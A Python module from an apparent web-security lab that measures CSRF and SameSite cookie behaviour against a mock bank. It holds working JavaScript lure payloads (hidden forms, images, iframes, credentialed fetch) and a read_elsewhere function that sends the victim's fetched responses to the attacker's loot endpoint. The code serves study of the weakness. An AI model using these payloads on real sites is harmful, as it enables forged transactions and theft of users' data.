"""What a page elsewhere can have a victim's browser send to a bank: CSRF (CWE-352), and SameSite measured.

The page knows no password and reads no cookie. Whatever goes along, the browser adds.
"""

import json
import re
from typing import Any

from labs.bench import Site
from labs.bench.browser import Person

from .attempt import Attempt
from .trap import ANOTHER, SIBLING, Trap

__all__ = ["COOKIES", "WAYS", "lure", "read_elsewhere", "table"]

WAYS = {
    "link": ("GET", "(url, body) => { location.href = url }"),
    "form": (
        "POST",
        """(url, body) => {
  const form = document.createElement("form");
  [form.method, form.action] = ["POST", url];
  for (const [name, value] of Object.entries(body)) {
    const field = document.createElement("input");
    [field.type, field.name, field.value] = ["hidden", name, value];
    form.append(field);
  }
  document.body.append(form);
  form.submit();
}""",
    ),
    "image": (
        "GET",
        """(url, body) => new Promise(done => {
  const image = document.createElement("img");
  image.onload = image.onerror = () => done();
  image.src = url;
  document.body.append(image);
})""",
    ),
    "frame": (
        "GET",
        """(url, body) => new Promise(done => {
  const frame = document.createElement("iframe");
  frame.onload = () => done();
  frame.src = url;
  document.body.append(frame);
})""",
    ),
    "fetch": (
        "POST",
        """(url, body) => fetch(url, {
  method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams(body)
}).then(() => {}, () => {})""",
    ),
}
"""How a page asks another server: by name the method, and the JavaScript of it, a function of address and fields."""

NAVIGATES = ("link", "form")  # the window shows the answer
COOKIES = ("unset", "lax", "strict", "none")
SENT, HELD = "sent", "-"


def lure(trap: Trap, victim: Person, way: str, url: str, fields: dict[str, Any] | None = None, host: str = ANOTHER):
    """Have the victim open a page of Mallory's that asks `url` in one of the WAYS; returns the Attempt.

    `fields`: what it sends along (text). `host`: under which of her names the page lies.
    """
    call = f"({WAYS[way][1]})({json.dumps(url)}, {json.dumps(fields or {})})"
    page = f"<!doctype html><title>You have won a fern</title><body><script>window.done = {call}</script>"
    address = trap.put(f"/win-{way}", page, host)
    victim.goto(address)
    arrive(victim, way, trap.origin(host))
    return Attempt(exchanges=[one for one in trap.site.log.by(victim.name) if one.path == f"/win-{way}"], tries=1)


def arrive(victim: Person, way: str, origin: str) -> None:
    """Wait until what the page of `origin` asked for has been answered."""
    if way in NAVIGATES:
        victim.wait_for_url(re.compile(rf"^(?!{re.escape(origin)}/)"))
    else:
        victim.evaluate("Promise.resolve(window.done).then(() => null, () => null)")


def table(site: Site, trap: Trap, victim: Person) -> list[dict[str, str]]:
    """Measure what goes along: one row for each place that asks, and each way to ask.

    `site` gives four cookies at /set, one for each of COOKIES. A row says for each of them "sent" or "-", as it was
    found in the Cookie header that arrived at the server.
    """
    victim.goto(f"{site.page}/set")
    places = {"Fernbank itself": site.page, "a sibling": trap.origin(SIBLING), "another site": trap.origin()}
    return [
        {"the page is of": place, "it asks by": way, "method": WAYS[way][0], **asked(site, victim, origin, way)}
        for place, origin in places.items()
        for way in WAYS
    ]


def asked(site: Site, victim: Person, origin: str, way: str) -> dict[str, str]:
    """Let a page of `origin` ask the site in this way; give for each cookie whether it arrived."""
    victim.goto(f"{origin}/")
    path = f"/seen/{way}"
    before = len(site.log)
    victim.evaluate(f"({WAYS[way][1]})({json.dumps(site.page + path)}, {{}})")
    if way in NAVIGATES:
        victim.wait_for_url(f"{site.page}{path}")
    # The log is bounded, but a table is far smaller than that.
    [arrived] = [one for one in site.log[before:] if one.path == path]
    header = dict(arrived.request_headers).get("Cookie", "")
    names = {pair.partition("=")[0] for pair in header.split("; ")}
    return {name: SENT if name in names else HELD for name in COOKIES}


def read_elsewhere(trap: Trap, victim: Person, url: str, host: str = ANOTHER, body: dict | None = None) -> Attempt:
    """Have a page of Mallory's fetch `url` with the victim's cookies, and bring her whatever it may read.

    `body`: sent as JSON, which no form can: the browser asks the server first (Fetch §4.8, the preflight).
    `captured`: {"read": the text, or None}.
    """
    options: dict[str, Any] = {"credentials": "include"}
    if body is not None:
        json_body = {"method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps(body)}
        options |= json_body
    bring = f'fetch({json.dumps(trap.loot_at)}, {{method: "POST", mode: "no-cors", body: JSON.stringify(text)}})'
    script = f"fetch({json.dumps(url)}, {json.dumps(options)}).then(a => a.text()).then(text => {bring})"
    page = f"<!doctype html><title>You have won a fern</title><body><script>window.done = {script}</script>"
    before = len(trap.loot)
    victim.goto(trap.put("/read", page, host))
    arrive(victim, "fetch", trap.origin(host))
    new = trap.loot[before:]
    return Attempt(exchanges=trap.brought[before:], captured={"read": new[0] if new else None}, tries=1)
